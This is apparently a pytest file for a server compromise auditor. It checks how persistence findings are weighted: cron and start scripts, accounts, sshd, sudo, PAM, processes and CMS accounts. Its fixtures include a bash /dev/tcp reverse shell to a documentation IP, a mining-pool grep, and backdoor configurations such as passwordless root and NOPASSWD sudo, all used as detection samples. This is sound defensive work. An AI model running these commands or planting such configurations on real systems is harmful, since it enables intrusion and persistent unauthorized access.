"""What speaks against one thing outside the web roots: how much, and when nothing does."""

from __future__ import annotations

from typing import Any

import pytest

from auditor.compromise.autorun_weights import weigh_autorun
from auditor.compromise.autoruns import Autorun, Slot


def place(slot: Slot, text: str = "", *marks: str, **changes: Any) -> Autorun:
    told = {"slot": slot, "where": "/etc/x", "who": "root", "package_status": "packaged", "text": text}
    return Autorun(**{**told, "marks": frozenset(marks), "programs": (), **changes})


@pytest.mark.parametrize(
    ("one", "certainty", "rule"),
    [
        (place("started", "bash -i >& /dev/tcp/192.0.2.9/1 0>&1", package_status="foreign"), "exact", "connects_back"),
        (place("start", "x", "starts"), "weak", "runs_foreign"),
        (place("web_module", 'CustomLog "|/opt/x" combined', "setting", "starts"), "weak", "runs_foreign"),
        (place("start", "x", "executable", package_status="changed"), "weak", "changed"),
        (place("hook", "ldconfig", "maintainer", package_status="changed"), "weak", "changed"),
        (place("cron", "x", "executable", package_status="changed"), "weak", "changed"),
        (place("hook", "a → b", "diverted"), "weak", "diverted"),
        (place("hook", "a → b", "covered"), "weak", "covered"),
        (place("hook", "fsmonitor=/x", "git_runs"), "weak", "git_runs"),
        (place("library", "", "names", package_status="foreign"), "strong", "name_service"),
        (place("library", "", "replaces", package_status="foreign"), "strong", "replaces_library"),
        (place("library", "", package_status="foreign"), "weak", "foreign"),
        (place("account", "0 /bin/sh", "root", "shell", "no_password"), "strong", "no_password"),
        (place("account", "1000 /bin/sh", "root", "by_group"), "weak", "root_by_group"),
        (place("account", "1 /opt/x", "shell", programs=(("/opt/x", "foreign"),)), "weak", "login_shell"),
        (place("account", "1 /x", "shell", programs=(("/dev/shm/x", "foreign"),)), "strong", "login_shell"),  # noqa: S108
        (place("sshd", "permitrootlogin yes", "lets_in"), "weak", "sshd_lets_in"),
        (place("sshd", "authorizedkeysfile /etc/ssh/keys"), "weak", "keys_elsewhere"),
        (place("sudo", "Defaults !authenticate", "defaults"), "weak", "sudo_loosened"),
        (place("sudo", "a ALL=(ALL) NOPASSWD: ALL", package_status="changed"), "weak", "changed"),
        (place("pam", "auth sufficient pam_succeed_if.so user = x", "skips"), "weak", "login_skips_password"),
        (place("process", "sshd: x", "as_program"), "strong", "poses_as_program"),
        (place("process", "x", "script_gone"), "weak", "script_gone"),
        (place("process", "socat x y", "relays"), "weak", "relays"),
        (place("cms_account", "", "application_password", who="a"), "weak", "application_password"),
        (place("cms_account", "", "registers_as", who="administrator"), "strong", "registers_as"),
    ],
)
def test_each_thing_is_weighed(one: Autorun, certainty: str, rule: str) -> None:
    weight = weigh_autorun(one)
    assert weight is not None
    assert (weight.certainty, rule in weight.rules) == (certainty, True)


@pytest.mark.parametrize(
    "one",
    [
        place("started", "echo x", "script", package_status="foreign"),
        place("started", "", "elf", package_status="foreign"),
        place("start", "x", package_status="changed"),
        place("process", "/usr/bin/python3 /opt/app.py", "starts"),
        place("sudo", "root ALL=(ALL:ALL) ALL", package_status="changed"),
        place("sudo", "%sudo   ALL=(ALL:ALL) ALL", package_status="changed"),
        place("account", "1000 /bin/bash", "shell", programs=(("/bin/bash", "packaged"),)),
        place("hook", "x", "settings", package_status="foreign"),
    ],
)
def test_what_says_nothing_is_nothing(one: Autorun) -> None:
    assert weigh_autorun(one) is None


def test_a_command_line_that_only_mentions_something_is_no_alarm() -> None:
    for title in ("grep -r 'stratum+tcp://' /var", "sh -c 'bash -i >& /dev/tcp/192.0.2.9/1 0>&1'"):
        weight = weigh_autorun(place("process", title))
        assert weight is not None
        assert weight.certainty == "weak"
